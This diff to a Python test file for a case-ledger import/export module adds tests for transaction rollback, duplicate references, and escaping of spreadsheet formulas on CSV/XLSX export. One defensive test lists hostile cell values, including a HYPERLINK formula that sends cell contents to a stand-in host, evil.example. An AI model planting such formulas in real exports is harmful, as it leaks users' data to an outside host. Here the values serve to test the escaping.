@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 from pathlib import Path
@@ -112,20 +113,18 @@ def test_a_crash_on_row_n_leaves_the_ledger_as_it_was(ledger_db: LedgerDB, tmp_p
     lines = ["reference,received,applicant_type,closed,outcome"]
     lines += [f"N{i},2024-02-{i:02d},自然人,2024-03-01,granted" for i in range(1, 11)]
     path = _write(tmp_path, "\n".join(lines) + "\n")
-    real = csvio.write_row
-    written: list[str] = []
+    real = csvio._insert
+    written: list[int] = []
 
-    def crash_on_row_8(session: cases.Session, agency: Agency, row: csvio.Row, calendar: WorkingCalendar
-                       ) -> Application:
-        if row.number == 8:
-            raise RuntimeError("power failure")
-        written.append(row.reference)
-        return real(session, agency, row, calendar)
+    def crash_after_writing(session: cases.Session, built: list[Application]) -> None:
+        real(session, built)  # every row is in the database, inside the transaction
+        written.append(int(session.scalar(select(func.count()).select_from(Application)) or 0))
+        raise RuntimeError("power failure")
 
-    monkeypatch.setattr(csvio, "write_row", crash_on_row_8)
+    monkeypatch.setattr(csvio, "_insert", crash_after_writing)
     with pytest.raises(RuntimeError, match="power failure"):
         _import(ledger_db, path)
-    assert len(written) == 6  # rows 2..7 had reached the database inside the transaction
+    assert written == [11]
     assert _count(ledger_db, Application) == 1
     assert _count(ledger_db, Event) == 1
 
@@ -184,3 +183,44 @@ def test_imported_cases_beyond_the_calendar_get_provisional_deadlines(ledger_db:
         "2026-901": (dt.date(2027, 1, 26), True, "closed"),  # 元旦 off; kept as computed when received
         "2027-001": (dt.date(2028, 2, 3), True, "open"),  # 春节 2028: 除夕 01-25 to 初三 01-28 off
     }
+
+
+def test_a_reference_twice_in_the_file_is_named_with_both_rows(ledger_db: LedgerDB, tmp_path: Path) -> None:
+    path = _write(tmp_path, "reference,received,applicant_type\nA-1,2024-01-02,自然人\nA-1,2024-01-03,自然人\n")
+    with pytest.raises(csvio.ImportFailed) as caught, ledger_db.session() as s, s.begin():
+        csvio.import_file(s, path, "某局", CAL)
+    assert "第3行：案号 A-1 与第2行重复" in caught.value.problems[0]
+    assert _count(ledger_db, Application) == 0
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_exports_never_carry_a_live_formula_and_import_restores_the_text(ledger_db: LedgerDB, tmp_path: Path,
+                                                                         suffix: str) -> None:
+    from openpyxl import load_workbook
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+2", "-3-4", "@SUM(1)", "=1+1"]
+    with ledger_db.session() as s, s.begin():
+        agency, _ = cases.get_or_create_agency(s, "某局")
+        for n, text in enumerate(hostile):
+            cases.add_case(s, agency, f"F-{n}", dt.date(2025, 3, 3), "natural_person", calendar=CAL, applicant=text,
+                           request=text)
+    with ledger_db.session() as s:
+        header, rows = csvio.export_rows(s, cases.find_agency(s, "某局"))
+    path = tmp_path / f"export{suffix}"
+    if suffix == ".csv":
+        with path.open("w", encoding="utf-8", newline="") as out:
+            csvio.write_csv(header, rows, out)
+        cells = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))[1:]
+        assert all(not c.startswith(("=", "+", "-", "@")) for line in cells for c in line if c and c[0] != "2")
+        assert cells[0][header.index("applicant")] == "'" + hostile[0]
+    else:
+        csvio.write_xlsx(header, rows, path)
+        sheet = load_workbook(path).worksheets[0]
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # before: a live formula
+        assert sheet.cell(2, header.index("applicant") + 1).value == "'" + hostile[0]
+    with ledger_db.session() as s, s.begin():
+        csvio.import_file(s, path, "某乙局", CAL)
+    with ledger_db.session() as s:
+        back = {c.reference: (c.applicant, c.request) for c in s.scalars(
+            select(Application).where(Application.agency_id == cases.find_agency(s, "某乙局").id))}
+    assert back == {f"F-{n}": (text, text) for n, text in enumerate(hostile)}
